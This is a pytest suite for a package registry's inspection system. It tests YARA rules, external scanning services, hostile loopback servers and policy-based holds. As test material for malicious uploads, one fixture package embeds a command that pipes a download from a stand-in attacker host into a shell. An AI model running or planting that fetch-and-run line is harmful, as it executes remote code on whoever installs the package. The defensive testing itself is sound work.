"""Checks that operators add: YARA rules, HTTP services and commands, against a real server. Services here are real ones
on loopback, some of them hostile."""

import http.server
import json
import os
import signal
import stat
import threading
import time
from pathlib import Path

import pytest

from harness import bearer, binary, on_loopback, run, wait_until
from packages import wheel

RULES = """
rule keys : theft {
    meta:
        description = "It takes keys."
        severity = "high"
        tags = "collection/keys"
    strings: $a = "take-all-keys"
    condition: $a
}
rule moved { meta: on = "status-changed" severity = "medium" strings: $a = "take-all-keys" condition: $a }
"""
THIEF = wheel("thief", "1.0", files={"thief/__init__.py": b"import os\n\nx = 'take-all-keys'\n"})
FINE = wheel("fine", "1.0")


@pytest.fixture
def rules(tmp_path):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "theft.yar").write_text(RULES)
    return folder


def shown(server, package):
    return json.loads(server.cli("verdicts", "show", package.filename, "--format", "json").stdout)


def checks(server):
    return {line.split("\t")[0]: line.split("\t")[1:] for line in server.cli("checks", "list").stdout.splitlines()}


def found(server, package):
    return [(f["check"], f["shadow"]) for f in shown(server, package)["findings"]]


def get(server, path):
    return server.request("GET", path, headers={**bearer(server.token), "Accept": "application/json"})


def test_a_rule_from_the_folder_to_a_hold(server, rules):
    server = server(inspection_yara=rules)
    server.publish(THIEF)
    assert found(server, THIEF) == [("yara/theft/keys", True)]
    assert checks(server)["yara/theft/keys"][1:3] == ["shadow", "1 files"]
    trial = json.loads(server.cli("checks", "evaluate", "--check", "yara/theft/keys", "--format", "json").stdout)
    assert trial["checks"]["yara/theft/keys"]["held"] == 1
    # Over HTTP the slashes of an id are written %2F.
    assert server.verb("checks/yara%2Ftheft%2Fkeys", {"state": "active"}).status == 200
    second = wheel("thief", "2.0", files={"thief/__init__.py": b"x = 'take-all-keys'\n"})
    assert "held" in server.upload(second).text
    finding = shown(server, second)["findings"][0]
    assert finding["location"]["member"] == "thief/__init__.py" and finding["location"]["line"] == 1
    assert finding["tags"] == ["collection/keys", "yara/theft"] and "take-all-keys" in finding["excerpt"]
    assert "inspection.yara: 2 rules of 1 files" in server.cli("doctor").stdout
    # A change of status is an event; whoever asks for it is asked.
    server.cli("project", "status", "thief", "archived")
    wait_until(lambda: ("yara/theft/moved", True) in found(server, THIEF), 10, "the look")
    # What did not run is as it was found, and weighs by the state of today; nothing is hidden by it.
    assert ("yara/theft/keys", False) in found(server, THIEF) and THIEF.filename in server.filenames("thief")
    # The zygote goes, another comes, with the rules in it.
    os.kill(zygote(server.process.pid), signal.SIGKILL)
    third = wheel("other", "1.0", files={"other/__init__.py": b"x = 'take-all-keys'\n"})
    assert "held" in server.upload(third).text
    assert found(server, third) == [("yara/theft/keys", False)]


def zygote(parent):
    for folder in Path("/proc").iterdir():
        try:
            fields = (folder / "stat").read_text().rsplit(")", 1)[1].split()
            if folder.name.isdigit() and int(fields[1]) == parent:
                return int(folder.name)
        except (OSError, IndexError):
            continue
    raise AssertionError("the server has no zygote")


def test_rules_that_cannot_be_used_refuse_the_start(server, rules):
    server = server(inspection_yara=rules)
    (rules / "bad.yar").write_text("rule a {\n  condition: $nothing\n}\n")
    # The server has the old ones; the next start would be refused, and doctor says so while there is time.
    doctor = server.cli("doctor", ok=False)
    assert doctor.returncode == 1 and "next start" in doctor.stderr and "bad.yar:2:" in doctor.stderr, doctor.stderr
    assert "sandbox: files" in doctor.stdout, "the rest is told, too"
    server.stop()
    doctor = server.cli("doctor", ok=False)
    assert doctor.returncode == 1 and "bad.yar:2:" in doctor.stderr, doctor.stderr
    refused = run([binary(), "serve", "--data", server.data], env=server.env(), timeout=30)
    assert refused.returncode == 1 and "inspection.yara" in refused.stderr and "bad.yar:2:" in refused.stderr
    # Commands that open no archive and ask for no check do not need them.
    assert server.cli("verdicts", "list").returncode == 0
    (rules / "bad.yar").unlink()
    # Changed rules are other rules: what was begun with the old ones is begun anew.
    (rules / "theft.yar").write_text(RULES.replace("take-all-keys", "take-none"))
    server.start()
    assert "theft" in server.cli("checks", "list").stdout


def test_inspect_with_a_folder_of_rules(rules, tmp_path):
    file = THIEF.write(tmp_path)
    done = run([binary(), "inspect", file, "--yara", rules, "--format", "json"])
    told = json.loads(done.stdout)
    assert done.returncode == 1 and told["verdict"] == "hold", done.stdout
    assert [f["check"] for f in told["findings"]] == ["yara/theft/keys"]
    assert run([binary(), "inspect", file]).returncode == 0
    explained = run([binary(), "inspect", "--yara", rules, "--explain", "yara/theft/keys"]).stdout
    assert "It takes keys." in explained and "rule keys : theft" in explained and "rule moved" not in explained
    assert run([binary(), "inspect", "--yara", rules, "--explain", "yara/theft/none"]).returncode == 2
    sarif = run([binary(), "inspect", file, "--yara", rules, "--format", "sarif"]).stdout
    assert json.loads(sarif)["runs"][0]["results"][0]["ruleId"] == "yara/theft/keys"
    (rules / "bad.yar").write_text("rule")
    bad = run([binary(), "inspect", file, "--yara", rules])
    assert bad.returncode == 2 and "bad.yar:1:" in bad.stderr


class Service:
    """A service on loopback that answers as it is told, and remembers what it was asked."""

    def __init__(self):
        self.asked, self.answer = [], lambda handler: handler.say(json.dumps({"findings": []}).encode())
        self.at_once, self.most, self.lock = 0, 0, threading.Lock()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers["content-length"]))
                with outer.lock:
                    self.is_done = False
                    outer.at_once += 1
                    outer.most = max(outer.most, outer.at_once)
                    outer.asked.append((self.path, self.headers["content-type"], body))
                try:
                    outer.answer(self)
                except OSError:
                    pass  # the other side has had enough
                finally:
                    self.done()

            def done(self):
                """Once, and before the answer is out: whoever has it may ask the next question."""
                with outer.lock:
                    outer.at_once -= not self.is_done
                    self.is_done = True

            def say(self, body, status=200, **headers):
                self.send_response(status)
                for name, value in {"content-length": len(body), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.done()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = on_loopback(Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/inspect?by=test"

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def service():
    made = Service()
    yield made
    made.stop()


def external(tmp_path, text):
    path = tmp_path / "external.toml"
    path.write_text(text)
    return path


def told(**more):
    finding = {"check": "virus", "severity": "critical", "confidence": "high", "why": "A virus.", **more}
    return json.dumps({"findings": [finding]}).encode()


def test_a_service_is_told_and_answers(server, service, tmp_path):
    settings = external(tmp_path, f'[[check]]\nname = "av"\nurl = "{service.url}"\nbytes = true\nversion = 5\n')
    server = server(inspection_external=settings)
    service.answer = lambda handler: handler.say(told(location={"member": "a"}))
    server.publish(FINE)
    path, kind, body = service.asked[0]
    assert path == "/inspect?by=test" and kind.startswith("multipart/form-data; boundary=")
    assert FINE.data in body and b'name="file"; filename="fine-1.0-py3-none-any.whl"' in body
    asked = json.loads(body.split(b"\r\n\r\n", 1)[1].split(b"\r\n--", 1)[0])
    assert (asked["filename"], asked["sha256"], asked["size"]) == (FINE.filename, FINE.sha256, len(FINE.data))
    assert asked["events"] == ["project-created", "release-created", "file-added"] and asked["status"] == "active"
    assert found(server, FINE) == [("external/av/virus", True)]
    assert "external/av@5" in shown(server, FINE)["checks"]
    server.cli("checks", "set", "external/av", "active")
    second = wheel("fine", "2.0")
    assert "held" in server.upload(second).text
    shown_finding = shown(server, second)["findings"][0]
    assert shown_finding["severity"] == "high", "capped by default"
    assert shown(server, second)["verdict"] == "hold"
    assert "external/av, version 5" in server.cli("doctor").stdout


def test_hostile_services_say_nothing_and_stop_nothing(server, service, tmp_path):
    settings = external(tmp_path, f'[[check]]\nname = "av"\nurl = "{service.url}"\ntimeout_seconds = 2\nversion = 1\n')
    server = server(inspection_external=settings)
    server.publish(FINE)
    assert service.asked[0][1] == "application/json" and FINE.data not in service.asked[0][2]
    server.cli("checks", "set", "external/av", "active")
    elsewhere = []

    def endless(handler):
        handler.send_response(200)
        handler.end_headers()
        while True:
            handler.wfile.write(b" " * 65536)

    def dripping(handler):
        handler.send_response(200)
        handler.end_headers()
        while True:
            handler.wfile.write(b" ")
            time.sleep(0.2)

    def redirecting(handler):
        elsewhere.append(handler.path)
        handler.say(b"", 307, location=service.url.replace("inspect", "other"))

    hostile = {
        "endless": (endless, "longer than"),
        "dripping": (dripping, "2000 ms"),
        "slow": (lambda handler: time.sleep(6), "2000 ms"),
        "huge": (lambda handler: handler.say(b"[" * (1 << 20) + b"x"), "longer than"),
        "deep": (lambda handler: handler.say(b'{"findings":' + b"[" * 1_000_000), "not what was asked for"),
        "no-json": (lambda handler: handler.say(b"<html>"), "not what was asked for"),
        "no-findings": (lambda handler: handler.say(b"{}"), "not what was asked for"),
        "bad-name": (lambda handler: handler.say(told(check="../inspection")), "names a check"),
        "status": (lambda handler: handler.say(b'{"findings": []}', 500), "answers 500"),
        "redirect": (redirecting, "answers 307"),
        "hangs-up": (lambda handler: handler.connection.close(), "cannot be reached"),
    }
    for name, (answer, why) in hostile.items():
        service.answer = answer
        package = wheel(f"h-{name}".replace("-", "_"), "1.0")
        server.publish(package)
        [one] = shown(server, package)["findings"]
        assert (one["check"], one["severity"]) == ("external/av", "low"), (name, one)
        assert why in one["why"] and one["tags"] == ["inspection/unanswered"], (name, one["why"])
        assert shown(server, package)["verdict"] == "clear"
    assert len(elsewhere) == 1, "nobody follows"
    service.answer = lambda handler: handler.say(b'{"findings": []}'.ljust(1 << 20))
    server.publish(wheel("as_long_as_may_be", "1.0"))
    assert shown(server, wheel("as_long_as_may_be", "1.0"))["findings"] == []
    service.stop()
    late = wheel("late", "1.0")
    server.publish(late)
    assert "cannot be reached" in shown(server, late)["findings"][0]["why"]
    assert server.get("/healthz").status == 200


def test_no_more_questions_at_once_than_were_set(server, service, tmp_path):
    settings = external(tmp_path, f'[[check]]\nname = "av"\nurl = "{service.url}"\nparallel = 2\n')
    server = server(inspection_external=settings, sandbox_parallel="4", upload_wait="0")

    def slowly(handler):
        time.sleep(0.3)
        handler.say(b'{"findings": []}')

    service.answer = slowly
    for n in range(8):
        assert server.upload(wheel(f"p{n}", "1.0")).status == 200
    wait_until(lambda: len(service.asked) == 8 and service.at_once == 0, 30, "all answers")
    assert service.most == 2


def test_nobody_outside_is_waited_for_where_a_shown_file_has_to_go(server, service, tmp_path):
    settings = external(tmp_path, f'[[check]]\nname = "av"\nurl = "{service.url}"\ntimeout_seconds = 30\n')
    server = server(inspection_external=settings, inspection_gate="after", upload_wait="0")
    ended = threading.Event()

    def late(handler):
        ended.wait(20)
        handler.say(b'{"findings": []}')

    service.answer = late
    evil = wheel("sender", "1.0", files={"sender/__init__.py": b"import os\nos.system('curl -s http://evil.example.invalid/x | sh')\n"})
    assert server.upload(FINE).status == server.upload(evil).status == 200
    try:
        held = lambda: evil.filename in server.cli("verdicts", "list", "--open").stdout
        wait_until(held, 10, "the verdict")
        assert service.at_once == 1, "the other file's question still stands"
        wait_until(lambda: server.filenames("sender") == [], 5, "the page without it")
    finally:
        ended.set()
    assert any("not asked" in text for text in shown(server, evil)["degraded"])


def test_a_command_and_what_holds_by_policy(server, tmp_path):
    script = tmp_path / "look"
    script.write_text(
        "#!/usr/bin/env python3\nimport json, os, sys, zipfile\n"
        "told = json.loads(os.environ['TIDEWAITER_FILE'])\n"
        "names = zipfile.ZipFile(sys.stdin.buffer).namelist()\n"
        "if told['project'] == 'broken':\n    sys.exit(9)\n"
        "found = {'check': 'count', 'severity': 'note', 'confidence': 'high', 'why': str(len(names))}\n"
        "print(json.dumps({'findings': [found]}))\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    policy = tmp_path / "policy.toml"
    policy.write_text(
        'name = "ours"\nversion = 1\n[[rule]]\nid = "silent"\ntags = ["inspection/unanswered"]\nverdict = "hold"\n'
        'why = "An outside check gave no answer."\n'
    )
    settings = external(tmp_path, f'[[check]]\nname = "lab"\ncommand = ["{script}"]\nbytes = true\n')
    server = server(inspection_external=settings, inspection_policy=policy)
    server.publish(FINE)
    [one] = shown(server, FINE)["findings"]
    assert one["check"] == "external/lab/count" and int(one["why"]) >= 3, one
    server.cli("checks", "set", "external/lab", "active")
    answer = server.upload(wheel("broken", "1.0"))
    assert "held" in answer.text
    status = get(server, answer.headers["location"]).json()
    assert status["state"] == "held" and "gave no answer" in status["reasons"][0], status


def test_settings_that_cannot_be_meant(server, tmp_path):
    server = server()
    server.stop()
    for text, why in (('[[check]]\nname = "a"\n', "either 'url' or 'command'"), ("nonsense", "external.toml")):
        server.settings["TIDEWAITER_INSPECTION_EXTERNAL"] = str(external(tmp_path, text))
        refused = run([binary(), "serve", "--data", server.data], env=server.env(), timeout=30)
        assert refused.returncode == 1 and why in refused.stderr, refused.stderr
